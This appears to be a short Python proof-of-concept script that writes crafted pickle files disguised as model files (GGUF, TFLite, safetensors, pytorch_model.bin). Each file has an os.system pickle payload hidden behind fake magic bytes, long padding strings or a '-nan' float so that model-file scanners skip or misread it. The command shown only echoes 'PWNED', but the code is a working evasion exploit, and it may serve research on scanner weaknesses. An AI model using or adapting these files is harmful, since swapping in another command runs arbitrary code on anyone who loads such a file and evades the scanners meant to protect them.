import struct, pickle
pay = b"cos\nsystem\n(S'echo PWNED'\ntR."     # proto-0 payload; pops nothing
def w(n,b): open(n,'wb').write(b)
# sniff polyglots
w('gguf.pkl', b'GGUF\x00\x00\x00\x00' + pay)                # BINFLOAT eats 8 bytes
w('tfl.pkl', b'GAAATFL3A' + b'0' + pay)                       # BINFLOAT(AAATFL3A), POP
body = b'\x00\x00\x00{"' + b'A'*32
w('st.pkl', b'T' + struct.pack('<I', len(body)) + body + b'0' + pay)  # BINSTRING; safetensors sniff
# long first string: Plausible false, text -> skipped with non-pickle ext
w('pytorch_model.bin', b"S'" + b'A'*5000 + b"'\n0" + pay)
w('model.safetensors', b"S'" + b'A'*5000 + b"'\n0" + pay)
w('binlead.bin', b'B' + struct.pack('<I',5000) + b'\x01'*5000 + b'0' + pay)
# -nan float
w('nanf.bin', b'F-nan\n0' + pay)
w('nanf.pkl', b'F-nan\n0' + pay)
